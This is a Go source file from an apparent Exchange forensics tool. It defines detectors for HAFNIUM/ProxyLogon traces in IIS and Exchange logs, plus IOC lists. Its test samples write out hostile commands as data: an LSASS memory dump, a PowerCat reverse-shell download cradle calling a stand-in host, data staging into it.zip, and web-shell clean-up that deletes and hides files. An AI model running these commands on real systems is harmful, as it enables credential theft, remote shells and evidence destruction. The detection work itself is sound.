package builtin

import (
	"strings"

	"github.com/exhunt/exhunt/detect"
	"github.com/exhunt/exhunt/event"
	"github.com/exhunt/exhunt/finding"
)

// HAFNIUM tradecraft seen in IIS (Volexity / CHIRP / signature-base /
// Sigma patterns), the MSTIC command strings of CHIRP-11, and the weak
// indicators (addresses, user agents) reported as context only.

// Volexity user agents (section 4.3), as IIS writes them.
var (
	uaCrawlers = []string{
		"DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)",
		"facebookexternalhit/1.1+(+http://www.facebook.com/externalhit_uatext.php)",
		"Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)",
		"Mozilla/5.0+(compatible;+Bingbot/2.0;++http://www.bing.com/bingbot.htm)",
		"Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html",
		"Mozilla/5.0+(compatible;+Konqueror/3.5;+Linux)+KHTML/3.5.5+(like+Gecko)+(Exabot-Thumbnails)",
		"Mozilla/5.0+(compatible;+Yahoo!+Slurp;+http://help.yahoo.com/help/us/ysearch/slurp)",
		"Mozilla/5.0+(compatible;+YandexBot/3.0;++http://yandex.com/bots)",
		"Mozilla/5.0+(X11;+Linux+x86_64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/51.0.2704.103+Safari/537.36",
	}
	uaECPTools   = []string{"ExchangeServicesClient/0.0.0.0", "python-requests/2.19.1", "python-requests/2.25.1"}
	uaShellTools = []string{"antSword/v2.1", "Googlebot/2.1+(+http://www.googlebot.com/bot.html)", "Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)"}
	uaKeywords   = []string{"duckduckbot", "facebookexternalhit", "baiduspider", "bingbot", "googlebot", "exabot-thumbnails", "slurp", "yandexbot", "chrome/51.0.2704.103", "antsword", "exchangeservicesclient/0.0.0.0", "python-requests/2.19.1", "python-requests/2.25.1"}
)

// uaIn reports whether ua starts with one of list (compared normalised).
func uaIn(ua string, list []string) bool {
	n := normUA(ua)
	if n == "" {
		return false
	}
	for _, l := range list {
		if strings.HasPrefix(n, normUA(l)) {
			return true
		}
	}
	return false
}

// hafniumEntry: the static-looking URLs HAFNIUM POSTed to (SB-L02, SB-L03a,
// CHIRP-02, SG-01).
func hafniumEntry(p string) bool {
	switch {
	case strings.HasPrefix(p, "/owa/auth/current/themes/resources/"):
		return true
	case p == "/ecp/default.flt", p == "/ecp/main.css", p == "/owa/auth/w.js":
		return true
	case strings.HasPrefix(p, "/ecp/") && strings.HasSuffix(p, ".js"):
		return true
	}
	return false
}

var sbl02Files = set("logon.css", "owafont_ja.css", "lgnbotl.gif", "owafont_ko.css", "SegoeUI-SemiBold.eot", "SegoeUI-SemiLight.ttf")

func hafniumEntryMatch(ok func(code int) bool) func(ev *event.Event) (detect.Hit, bool) {
	return func(ev *event.Event) (detect.Hit, bool) {
		if method(ev) != "POST" {
			return detect.Hit{}, false
		}
		p := stem(ev)
		if !hafniumEntry(p) || !ok(status(ev)) {
			return detect.Hit{}, false
		}
		h := hit(ev, "entry_point", p)
		if sbl02Files[baseName(p)] && strings.HasPrefix(p, "/owa/auth/current/themes/resources/") {
			h.Fields["known_file"] = baseName(p)
		}
		return h, true
	}
}

var hfRefs = []string{refCHIRP + " CHIRP-02", "signature-base EXPL_LOG_CVE_2021_26858_Exchange_Forensic_Artefacts_Mar21_1 (SB-L02)", "signature-base LOG_APT_HAFNIUM_Exchange_Log_Traces_Mar21_1 (SB-L03)", "Sigma web_exchange_exploitation_hafnium (SG-01)"}

var ipIOCs = []string{
	// Volexity (CHIRP-01)
	"103.77.192.219", "104.140.114.110", "104.250.191.110", "108.61.246.56", "149.28.14.163", "157.230.221.198", "167.99.168.251", "185.250.151.72",
	"192.81.208.169", "203.160.69.66", "211.56.98.146", "5.2.69.14", "5.254.43.18", "80.92.205.81", "91.192.103.43",
	// trustedsec search_by_ip.sql additions
	"104.248.49.97", "13.231.174.2", "142.93.182.54", "161.35.1.207", "161.35.1.225", "161.35.45.41", "165.227.196.109", "165.232.154.116",
	"167.179.82.76", "167.99.239.29", "172.104.251.234", "182.18.152.105", "185.65.134.170", "194.87.69.35", "20.73.224.195", "31.7.61.190",
	"45.32.251.60", "45.76.110.29", "45.77.252.175", "46.101.232.43", "82.221.139.240", "86.105.18.116", "89.34.111.11",
}

var ipIOCSet = set(ipIOCs...)

// traceText is the text in which CHIRP-11 / SB-L04 command strings are
// looked for: the decoded request for web logs, EventData for ECP, the raw
// line otherwise. Lower case, backslashes as forward slashes.
func traceText(ev *event.Event) []string {
	var t string
	switch ev.Source {
	case event.IIS, event.HTTPProxy:
		t = strings.ToLower(uri(ev))
	case event.ECPServer, event.ECPActivity:
		t = strings.ToLower(ev.Get("EventData"))
	}
	if t == "" {
		t = strings.ToLower(string(ev.Raw))
	}
	t = strings.ReplaceAll(t, `\`, "/")
	d := strings.ReplaceAll(decodeURL(t), `\`, "/")
	if d == t {
		return []string{t}
	}
	return []string{t, d}
}

func traceDetector(a finding.Advisory, keywords []string, test func(t string) bool, samples []detect.Sample) *detect.Detector {
	return &detect.Detector{
		Advisory: a,
		Sources:  []event.Source{event.IIS, event.HTTPProxy, event.ECPServer, event.ECPActivity, event.RpsHTTP},
		Keywords: keywords,
		Match: func(ev *event.Event) (detect.Hit, bool) {
			for _, t := range traceText(ev) {
				if test(t) {
					if ev.Source == event.IIS || ev.Source == event.HTTPProxy {
						return hit(ev), true
					}
					return detect.Hit{Fields: map[string]string{"client_ip": clientIP(ev), "cmd": clean(ev.Get("CMD"))}}, true
				}
			}
			return detect.Hit{}, false
		},
		Samples: samples,
	}
}

func hafniumDetectors() []*detect.Detector {
	return []*detect.Detector{
		{
			Advisory: adv("EXH-HF-01",
				"HAFNIUM-style POST to a fake static file answered (ProxyLogon SSRF entry point)",
				"A POST to a static-looking URL that HAFNIUM used as the ProxyLogon entry point (/owa/auth/Current/themes/resources/…, /ecp/default.flt, /ecp/main.css, /ecp/<x>.js, /owa/auth/w.js) was answered with 2xx/3xx. Browsers never POST to these files. The IIS line shows the SSRF was attempted, not how far it got: mass scanners that only reached autodiscover look the same (CSS-Exchange #312), so the stage reached is judged from the HttpProxy rows (EXH-PL-01…06).",
				finding.Low, finding.StageAttempt, cHAFNIUM, cvesProxyLogonRCE, []string{tExploitPublic}, hfRefs),
			Sources:  []event.Source{event.IIS},
			Keywords: []string{"themes/resources", "/ecp/", "/w.js"},
			Match:    hafniumEntryMatch(succeeded),
			Samples: []detect.Sample{
				iis(true, "SB-L02 theme resource", req{Method: "POST", Stem: "/owa/auth/Current/themes/resources/logon.css", Query: "-", Status: "200"}),
				iis(true, "CHIRP one-letter ecp js", req{Method: "POST", Stem: "/ecp/y.js", Status: "200"}),
				iisCustom(true, "custom layout, default.flt", req{Method: "POST", Stem: "/ecp/default.flt", Status: "302"}),
				iis(false, "GET of the real stylesheet", req{Stem: "/owa/auth/Current/themes/resources/logon.css"}),
				iis(false, "failed POST is EXH-HF-02", req{Method: "POST", Stem: "/ecp/y.js", Status: "500"}),
			},
		},
		{
			Advisory: adv("EXH-HF-02",
				"HAFNIUM-style POST to a fake static file refused or failed (exploitation attempt)",
				"Same request shape as EXH-HF-01, but the server answered with an error: an exploitation attempt whose success the IIS log does not show. Check the HttpProxy log for the matching ServerInfo~ row.",
				finding.Low, finding.StageAttempt, cHAFNIUM, cvesProxyLogonRCE, []string{tExploitPublic}, hfRefs),
			Sources:  []event.Source{event.IIS},
			Keywords: []string{"themes/resources", "/ecp/", "/w.js"},
			Match:    hafniumEntryMatch(func(c int) bool { return !succeeded(c) }),
			Samples: []detect.Sample{
				iis(true, "500 on ecp js", req{Method: "POST", Stem: "/ecp/x.js", Status: "500"}),
				iis(true, "404 on main.css", req{Method: "POST", Stem: "/ecp/main.css", Status: "404"}),
				iis(false, "answered POST is EXH-HF-01", req{Method: "POST", Stem: "/ecp/x.js", Status: "200"}),
				iis(false, "ordinary ECP POST", req{Method: "POST", Stem: "/ecp/DDI/DDIService.svc/GetList", Query: "schema=Mailboxes&msExchEcpCanary=abc", Status: "200", User: "CONTOSO\\admin"}),
			},
		},
		{
			Advisory: adv("EXH-HF-03",
				"POST to /owa/auth/Current/ by a fake search-engine crawler (HAFNIUM pattern)",
				"A POST under /owa/auth/Current/ carried one of the crawler user agents Volexity saw HAFNIUM impersonate (Googlebot, Bingbot, Baiduspider, DuckDuckBot…). Real crawlers do not POST to OWA.",
				finding.High, finding.StageAttempt, cHAFNIUM, cvesProxyLogonRCE, []string{tExploitPublic}, []string{"signature-base LOG_APT_HAFNIUM_Exchange_Log_Traces_Mar21_1 (SB-L03 b)", "Sigma web_exchange_exploitation_hafnium (SG-01)"}),
			Sources:  []event.Source{event.IIS},
			Keywords: []string{"auth/current/"},
			Match: func(ev *event.Event) (detect.Hit, bool) {
				if method(ev) != "POST" || !strings.HasPrefix(stem(ev), "/owa/auth/current/") || !uaIn(userAgent(ev), uaCrawlers) {
					return detect.Hit{}, false
				}
				return hit(ev), true
			},
			Samples: []detect.Sample{
				iis(true, "DuckDuckBot POST", req{Method: "POST", Stem: "/owa/auth/Current/scripts/premium/flogon.js", UA: "DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)", Status: "500"}),
				iis(false, "real browser POST", req{Method: "POST", Stem: "/owa/auth/Current/scripts/premium/flogon.js"}),
				iis(false, "crawler GET", req{Stem: "/owa/auth/Current/themes/resources/logon.css", UA: "Mozilla/5.0+(compatible;+Bingbot/2.0;++http://www.bing.com/bingbot.htm)"}),
			},
		},
		{
			Advisory: adv("EXH-HF-04",
				"ECP POST answered for a scripted client HAFNIUM used (python-requests / ExchangeServicesClient)",
				"A POST under /ecp/ from python-requests 2.19.1/2.25.1 or ExchangeServicesClient/0.0.0.0 got a 2xx/3xx answer: the clients Volexity saw driving ProxyLogon against ECP. Admin scripts rarely talk to ECP with these exact versions, but mass scanners used them too after 2021-03-02; the stage reached is judged from the HttpProxy rows (EXH-PL-01…06).",
				finding.Low, finding.StageAttempt, cHAFNIUM, cvesProxyLogonRCE, []string{tExploitPublic}, []string{"signature-base LOG_APT_HAFNIUM_Exchange_Log_Traces_Mar21_1 (SB-L03 c)", "Sigma web_exchange_exploitation_hafnium (SG-01)"}),
			Sources:  []event.Source{event.IIS},
			Keywords: []string{"exchangeservicesclient/0.0.0.0", "python-requests/2.19.1", "python-requests/2.25.1"},
			Match: func(ev *event.Event) (detect.Hit, bool) {
				if method(ev) != "POST" || !strings.HasPrefix(stem(ev), "/ecp/") || !succeeded(status(ev)) || !uaIn(userAgent(ev), uaECPTools) {
					return detect.Hit{}, false
				}
				return hit(ev), true
			},
			Samples: []detect.Sample{
				iis(true, "python-requests ECP POST", req{Method: "POST", Stem: "/ecp/DDI/DDIService.svc/SetObject", Query: "schema=OABVirtualDirectory&msExchEcpCanary=x", UA: "python-requests/2.25.1", Status: "200"}),
				iis(false, "refused", req{Method: "POST", Stem: "/ecp/DDI/DDIService.svc/SetObject", UA: "python-requests/2.25.1", Status: "401"}),
				iis(false, "other python version", req{Method: "POST", Stem: "/ecp/DDI/DDIService.svc/SetObject", UA: "python-requests/2.31.0", Status: "200"}),
			},
		},
		{
			Advisory: adv("EXH-HF-05",
				"Web shell client (antSword or fake crawler) POSTed to aspnet_client or OWA and got an answer",
				"A POST under /aspnet_client/ or /owa/ with the antSword/v2.1 web-shell client or a fake Googlebot/Baiduspider user agent was answered with 2xx/3xx: how Volexity saw HAFNIUM drive its shells.",
				finding.High, finding.StageExecution, cHAFNIUM, nil, []string{tWebShell}, []string{"signature-base LOG_APT_HAFNIUM_Exchange_Log_Traces_Mar21_1 (SB-L03 d)", "Sigma web_exchange_exploitation_hafnium (SG-01)"}),
			Sources:  []event.Source{event.IIS},
			Keywords: []string{"antsword", "googlebot.com/bot.html", "baiduspider"},
			Match: func(ev *event.Event) (detect.Hit, bool) {
				p := stem(ev)
				if method(ev) != "POST" || !(strings.HasPrefix(p, "/aspnet_client/") || strings.HasPrefix(p, "/owa/")) || !succeeded(status(ev)) || !uaIn(userAgent(ev), uaShellTools) {
					return detect.Hit{}, false
				}
				return hit(ev), true
			},
			Samples: []detect.Sample{
				iis(true, "antSword", req{Method: "POST", Stem: "/aspnet_client/system_web/log.aspx", UA: "antSword/v2.1", Status: "200"}),
				iis(false, "antSword refused", req{Method: "POST", Stem: "/aspnet_client/system_web/log.aspx", UA: "antSword/v2.1", Status: "404"}),
				iis(false, "normal OWA logon POST", req{Method: "POST", Stem: "/owa/auth.owa", Status: "302"}),
			},
		},
		traceDetector(adv("EXH-HF-06",
			"Web shell clean-up command seen (hiding or deleting files in aspnet_client)",
			"A logged request or command changed into C:\\inetpub\\wwwroot\\aspnet_client and deleted files or set hidden/system attributes there: the China Chopper clean-up HAFNIUM ran after dropping shells.",
			finding.High, finding.StageCleanup, cHAFNIUM, nil, []string{tDeleteFile, tCmd}, []string{"signature-base LOG_Exchange_Forensic_Artefacts_CleanUp_Activity_Mar21_1 (SB-L04)"}),
			[]string{"aspnet_client"},
			func(t string) bool {
				if strings.Contains(t, "cmd.exe /c cd /d c:/inetpub/wwwroot/aspnet_client") {
					return true
				}
				n := 0
				for _, s := range []string{"aspnet_client&del '", "aspnet_client&attrib +h +s +r ", "&echo [s]"} {
					if strings.Contains(t, s) {
						n++
					}
				}
				return n >= 2
			},
			[]detect.Sample{
				iis(true, "cd into aspnet_client", req{Method: "POST", Stem: "/aspnet_client/system_web/xx.aspx", Query: "z=cmd.exe%20/c%20cd%20/d%20C:%5Cinetpub%5Cwwwroot%5Caspnet_client"}),
				iis(true, "del + echo [S]", req{Method: "POST", Stem: "/owa/auth/one.aspx", Query: "z=cd%20/d%20C:/inetpub/wwwroot/aspnet_client%26del%20'x.aspx'%26echo%20[S]"}),
				iis(false, "ordinary aspnet_client file", req{Stem: "/aspnet_client/system_web/4_0_30319/WebUIValidation.js"}),
			}),
		traceDetector(adv("EXH-HF-07",
			"LSASS memory dump command seen (credential theft)",
			"A logged request or command dumped lsass.exe to C:\\windows\\temp\\lsass…, the MSTIC-reported HAFNIUM credential theft step. Treat every credential on the server as stolen.",
			finding.Critical, finding.StageCredential, cHAFNIUM, nil, []string{tLSASS}, []string{refCHIRP + " CHIRP-11"}),
			[]string{"lsass"},
			func(t string) bool { return strings.Contains(t, "lsass.exe c:/windows/temp/lsass") },
			[]detect.Sample{
				iis(true, "procdump through a shell", req{Method: "POST", Stem: "/aspnet_client/s.aspx", Query: "c=procdump64.exe%20-accepteula%20-ma%20lsass.exe%20C:%5Cwindows%5Ctemp%5Clsass.dmp"}),
				iis(false, "word lsass without the dump path", req{Stem: "/kb/lsass-protection.aspx"}),
			}),
		traceDetector(adv("EXH-HF-08",
			"Staging archive C:\\ProgramData\\it.zip referenced (data collection)",
			"A logged request or command referenced C:\\ProgramData\\it.zip, the archive MSTIC saw HAFNIUM stage stolen data in before exfiltration.",
			finding.High, finding.StageCollection, cHAFNIUM, nil, []string{tArchive}, []string{refCHIRP + " CHIRP-11"}),
			[]string{"it.zip"},
			func(t string) bool { return strings.Contains(t, "c:/programdata/it.zip") },
			[]detect.Sample{
				iis(true, "7z into it.zip", req{Method: "POST", Stem: "/aspnet_client/s.aspx", Query: "c=7za.exe%20a%20C:%5CProgramData%5Cit.zip%20C:%5CProgramData%5Cpst"}),
				iis(false, "other zip", req{Stem: "/downloads/audit.zip"}),
			}),
		traceDetector(adv("EXH-HF-09",
			"PowerCat reverse shell command seen",
			"A logged request or command loaded powercat.ps1 and ran powercat -c, the reverse shell MSTIC saw after ProxyLogon exploitation.",
			finding.High, finding.StageExecution, cHAFNIUM, nil, []string{tPowerShell, tIngressTool}, []string{refCHIRP + " CHIRP-11"}),
			[]string{"powercat"},
			func(t string) bool { return strings.Contains(t, "powercat.ps1'); powercat -c") },
			[]detect.Sample{
				iis(true, "powercat download cradle", req{Method: "POST", Stem: "/aspnet_client/s.aspx", Query: "c=powershell%20IEX(New-Object%20Net.WebClient).DownloadString('http://198.51.100.9/powercat.ps1');%20powercat%20-c%20198.51.100.9%20-p%20443%20-e%20powershell"}),
				iis(false, "powercat mentioned in a doc URL", req{Stem: "/wiki/powercat"}),
			}),
		{
			Advisory: adv("EXH-HF-10",
				"Request from an address on the HAFNIUM IOC lists (context, not proof)",
				"The client address is one of the 38 VPS/VPN addresses Volexity and TrustedSec published for the March 2021 attacks. Such addresses are reused by unrelated traffic; CHIRP gives this confidence 3 of 10. Use it to link other findings.",
				finding.Info, finding.StageRecon, cHAFNIUM, nil, []string{tExploitPublic}, []string{refCHIRP + " CHIRP-01", "trustedsec HAFNIUM search_by_ip.sql"}),
			Sources:  []event.Source{event.IIS, event.HTTPProxy, event.RpsHTTP},
			Keywords: ipIOCs,
			Match: func(ev *event.Event) (detect.Hit, bool) {
				for _, ip := range strings.Fields(clientIP(ev)) {
					if ipIOCSet[ip] {
						return hit(ev, "ioc_ip", ip), true
					}
				}
				return detect.Hit{}, false
			},
			Samples: []detect.Sample{
				iis(true, "Volexity address", req{Stem: "/owa/", IP: "5.254.43.18"}),
				proxy(true, "HttpProxy row", map[string]string{"ClientIpAddress": "161.35.1.207", "UrlStem": "/owa/", "Method": "GET"}),
				iis(false, "address that merely contains an IOC", req{Stem: "/owa/", IP: "15.2.69.140"}),
			},
		},
		{
			Advisory: adv("EXH-HF-11",
				"User agent seen in HAFNIUM attacks (context, not proof)",
				"The user agent is one of the 15 Volexity published (python-requests 2.19.1/2.25.1, ExchangeServicesClient/0.0.0.0, antSword, or a search-engine crawler string, counted only on POST requests). Real crawlers and scripts use these strings too; CHIRP calls them not necessarily indicative of compromise.",
				finding.Info, finding.StageRecon, cHAFNIUM, nil, []string{tExploitPublic}, []string{refCHIRP + " CHIRP-03"}),
			Sources:  []event.Source{event.IIS, event.HTTPProxy},
			Keywords: uaKeywords,
			Match: func(ev *event.Event) (detect.Hit, bool) {
				ua := userAgent(ev)
				if uaIn(ua, uaECPTools) || uaIn(ua, []string{"antSword/v2.1"}) || (method(ev) == "POST" && (uaIn(ua, uaCrawlers) || uaIn(ua, uaShellTools))) {
					return hit(ev), true
				}
				return detect.Hit{}, false
			},
			Samples: []detect.Sample{
				iis(true, "python-requests 2.25.1", req{Stem: "/owa/", UA: "python-requests/2.25.1"}),
				iis(true, "crawler POST", req{Method: "POST", Stem: "/owa/auth.owa", UA: "Mozilla/5.0+(compatible;+YandexBot/3.0;++http://yandex.com/bots)"}),
				proxy(true, "HttpProxy spelling", map[string]string{"UserAgent": "ExchangeServicesClient/0.0.0.0", "UrlStem": "/ews/exchange.asmx"}),
				iis(false, "real crawler GET", req{Stem: "/", UA: "Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)"}),
				iis(false, "other python-requests", req{Stem: "/owa/", UA: "python-requests/2.7.0+CPython/2.7.9+Windows/2003Server"}),
			},
		},
	}
}
